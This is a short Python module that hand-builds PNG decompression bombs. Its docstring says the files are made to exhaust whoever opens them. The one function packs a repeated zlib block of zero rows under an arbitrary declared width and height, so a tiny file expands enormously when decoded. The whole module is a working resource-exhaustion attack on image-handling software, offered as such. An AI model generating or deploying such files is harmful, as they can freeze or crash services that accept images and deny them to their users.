"""Files made to exhaust whoever opens them."""

import struct
import zlib


def one_colour_png(width: int, height: int) -> bytes:
    """An image of any size in few bytes."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9, wbits=-15)
    piece = packer.compress(bytes((1 + width) * 100)) + packer.flush(zlib.Z_FULL_FLUSH)  # which can be repeated
    count = (1 + width) * (height + -height % 100)
    rows = b"\x78\x9c" + piece * -(-height // 100) + b"\x03\x00" + struct.pack(">HH", count % 65521, 1)
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
